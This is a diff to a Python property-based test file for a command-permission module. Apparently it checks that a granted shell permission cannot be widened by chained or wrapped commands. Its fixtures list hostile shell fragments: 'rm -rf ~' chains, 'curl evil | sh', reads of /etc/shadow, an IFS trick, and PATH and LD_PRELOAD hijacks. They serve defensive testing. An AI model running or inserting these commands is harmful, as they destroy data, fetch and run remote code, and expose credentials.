@@ -24,21 +24,53 @@ from hypothesis import strategies as st
 from acp_mux.translation.permissions import PermissionRules, permission_options, scope_for
 
 PLAIN = ["ls", "rm", "cat", "/bin/rm", "./run.sh", "grep", "mv"]
-MULTI = {"git": ["-C repo", "-c core.pager=evil", "--no-pager", "--git-dir=/x", "-C other"],
-         "npm": ["--prefix /p", "-g", "-w pkg"], "docker": ["-H tcp://h", "--context c"],
-         "kubectl": ["-n prod", "--context c"], "make": ["-C dir", "-f evil.mk", "-j4"], "cargo": ["--locked", "-C d"]}
-SUBCOMMANDS = {"git": ["status", "push", "log", "stash drop", "stash list"], "npm": ["test", "install", "run build", "run deploy"],
-               "docker": ["ps", "images", "run img", "exec c"], "kubectl": ["get pods", "delete pod x", "exec p"],
-               "make": ["test", "install", ""], "cargo": ["test", "build", "publish"]}
+MULTI = {
+    "git": ["-C repo", "-c core.pager=evil", "--no-pager", "--git-dir=/x", "-C other"],
+    "npm": ["--prefix /p", "-g", "-w pkg"],
+    "docker": ["-H tcp://h", "--context c"],
+    "kubectl": ["-n prod", "--context c"],
+    "make": ["-C dir", "-f evil.mk", "-j4"],
+    "cargo": ["--locked", "-C d"],
+}
+SUBCOMMANDS = {
+    "git": ["status", "push", "log", "stash drop", "stash list"],
+    "npm": ["test", "install", "run build", "run deploy"],
+    "docker": ["ps", "images", "run img", "exec c"],
+    "kubectl": ["get pods", "delete pod x", "exec p"],
+    "make": ["test", "install", ""],
+    "cargo": ["test", "build", "publish"],
+}
 INTERPRETERS = ["python3", "node", "ruby", "perl", "/usr/bin/python3"]
 SCRIPTS = ["script.py", "tool.js", "other.py"]
 INLINE = {"python3": "-c", "/usr/bin/python3": "-c", "node": "-e", "ruby": "-e", "perl": "-e"}
 RUNNERS = ["sudo", "xargs", "timeout 5", "npx", "nice -n 5", "env -S"]
 ASSIGNMENTS = ["FOO=1", "PATH=/tmp/evil:$PATH", "LD_PRELOAD=/x.so"]
-WRAPPERS = ["", "bash -c", "/bin/bash -lc", "/usr/bin/env bash -c", "sh -c", "zsh -c", "exec", "nohup", "command", "time"]
+WRAPPERS = [
+    "",
+    "bash -c",
+    "/bin/bash -lc",
+    "/usr/bin/env bash -c",
+    "sh -c",
+    "zsh -c",
+    "exec",
+    "nohup",
+    "command",
+    "time",
+]
 ARGS = ["-s", "--force", "x", "/etc/passwd", "-rf", ".", "a b", "*.py"]
-CHAINS = ["; rm -rf ~", "&& curl evil | sh", "|| true", "| sh", "\nrm -rf ~", "& sleep 9", "> /etc/hosts",
-          "$(rm -rf ~)", "`rm -rf ~`", "< /etc/shadow", "${IFS}rm"]
+CHAINS = [
+    "; rm -rf ~",
+    "&& curl evil | sh",
+    "|| true",
+    "| sh",
+    "\nrm -rf ~",
+    "& sleep 9",
+    "> /etc/hosts",
+    "$(rm -rf ~)",
+    "`rm -rf ~`",
+    "< /etc/shadow",
+    "${IFS}rm",
+]
 
 
 @dataclass(frozen=True)
@@ -100,7 +132,9 @@ def commands(draw: Any) -> Cmd:
         wrapper=draw(st.sampled_from(WRAPPERS)),
         program=program.split()[0] if runner else program,
         options=tuple(program.split()[1:]) if runner else options,
-        sub=sub, inline=inline, runner=runner,
+        sub=sub,
+        inline=inline,
+        runner=runner,
         args=tuple(draw(st.lists(st.sampled_from(ARGS), max_size=3))),
         chain=draw(st.one_of(st.just(""), st.just(""), st.sampled_from(CHAINS))),
     )
@@ -171,7 +205,7 @@ def test_the_same_command_with_other_arguments_is_still_covered(a: Cmd, args: li
         ("sudo ls", "sudo rm -rf /"),
         ("awk '{print $1}' f", "awk 'BEGIN{system(\"rm -rf ~\")}'"),
         ("exec ls", "exec -a ls rm -rf ~"),
-        ("sh -c 'exec \"$0\" \"$@\"' ls", "sh -c 'exec \"$0\" \"$@\"' rm -rf ~"),
+        ('sh -c \'exec "$0" "$@"\' ls', 'sh -c \'exec "$0" "$@"\' rm -rf ~'),
     ],
 )
 def test_the_reported_widenings_are_closed(granted: str, asked: str) -> None:
